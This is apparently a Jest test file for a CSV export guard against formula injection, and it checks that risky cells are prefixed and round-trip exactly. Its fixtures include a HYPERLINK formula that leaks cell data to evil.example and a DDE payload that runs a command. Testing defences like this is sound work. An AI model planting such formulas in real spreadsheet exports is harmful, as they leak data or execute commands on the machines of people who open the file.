import { csvFile } from './sheet-files';
import { guardCsvCell, unguardCsvCell } from './csv-formulas';
import { readSheet } from './sheet-read';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
  '@SUM(1)',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\tleading tab',
  '\rleading CR',
];
// a text that already starts with the guard, or with quotes, must come back exactly too
const AWKWARD = ["'=already guarded", "''+two quotes", "'plain quote", "it's fine"];
const PLAIN = ['Lakers Snapback', 'قبعة ليكرز', '-5', '-5.00', '120.00', '0', 'S=3 | M=0', '', 'a-b', 'x=y'];

describe('CSV formula guard (OWASP CSV injection)', () => {
  it('prefixes a text cell starting with = + - @ tab or CR with an apostrophe', () => {
    for (const v of HOSTILE) expect(guardCsvCell(v)).toBe(`'${v}`);
  });

  it('leaves plain numbers (a negative count or price) and ordinary text as they are', () => {
    for (const v of PLAIN) expect(guardCsvCell(v)).toBe(v);
  });

  it('round-trips every string exactly, guard then unguard', () => {
    for (const v of [...HOSTILE, ...AWKWARD, ...PLAIN]) expect(unguardCsvCell(guardCsvCell(v))).toBe(v);
  });

  it('writes no cell of the export that a spreadsheet would run, and reads the file back as written', async () => {
    const rows = [
      ['id', 'name', 'brand', 'description', 'stock'],
      ['p1', HOSTILE[0], HOSTILE[1], HOSTILE[2], '-5'],
    ];
    const file = csvFile(rows);
    const cells = file
      .toString('utf8')
      .replace(/^\ufeff/, '')
      .split('\r\n')[1];
    // every written cell begins with a quote (quoted cell) or the guard, or is the plain number
    expect(cells).toBe(`p1,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")",'@SUM(1),'+SUM(1+1)*cmd|' /C calc'!A0,-5`);
    expect(await readSheet(file)).toEqual(rows);
  });
});
